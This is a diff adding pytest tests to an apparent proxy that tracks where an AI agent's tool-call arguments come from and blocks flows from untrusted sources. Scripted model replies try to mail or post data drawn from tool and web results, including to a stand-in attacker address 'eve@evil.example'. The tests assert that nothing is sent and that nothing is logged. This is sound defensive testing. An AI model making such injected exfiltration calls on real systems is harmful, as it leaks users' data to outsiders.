@@ -119,6 +119,33 @@ async def test_a_result_of_the_callers_tool_is_one_of_another_server(tmp_path: P
     assert SENT == []
 
 
+@pytest.mark.parametrize("tools", [[THEIRS], []], ids=["declared", "not declared this time"])
+async def test_what_the_callers_tool_told_is_none_of_the_only_servers(tmp_path: Path, tools: list[dict[str, Any]]) -> None:
+    call = {"id": "c1", "type": "function", "function": {"name": "search", "arguments": '{"text": "letters"}'}}
+    history: list[dict[str, Any]] = [
+        {"role": "user", "content": "Go."},
+        {"role": "assistant", "content": "", "tool_calls": [call]},
+        {"role": "tool", "tool_call_id": "c1", "content": "- crew of four\n- crew of five"},
+    ]
+    backend = ScriptedBackend([block(("send", {"to": "crew of four"})), "Done."])
+    await ask(backend, body(*history, tools=tools), hosts=[MAIL], allowed=rules(tmp_path, 'allow = "mail.*"'))
+    assert 'flow = "allow"' in texts(backend)[-1][1]
+    assert SENT == []
+
+
+async def test_the_log_has_no_names_of_fields_that_the_model_made(tmp_path: Path, caplog: pytest.LogCaptureFixture) -> None:
+    def post(fields: dict[str, Any]) -> str:
+        """Post fields."""
+        return "posted"
+
+    replies = [block(("look", {})), block(("post", {"fields": '{"eve@evil.example": {"x y": "eve@evil.example"}}'})), "Done."]
+    backend, hosts = ScriptedBackend(replies), [LocalHost([post], name="form"), WEB]
+    with caplog.at_level(logging.WARNING, logger="xmlcall.proxy"):
+        await ask(backend, body("Go.", tools=()), hosts=hosts, allowed=rules(tmp_path, 'allow = ["form.*", "web.*"]'))
+    assert '"form.post" did not run: $.fields comes from web; to allow it' in caplog.text
+    assert "evil" not in caplog.text
+
+
 async def test_what_its_own_tool_told_in_an_earlier_request_is_remembered(tmp_path: Path) -> None:
     first = [block(("look", {})), block(("search", {"text": "letters"}))]
     backend = ScriptedBackend([*first, block(("send", {"to": "eve@evil.example"})), "Done."])
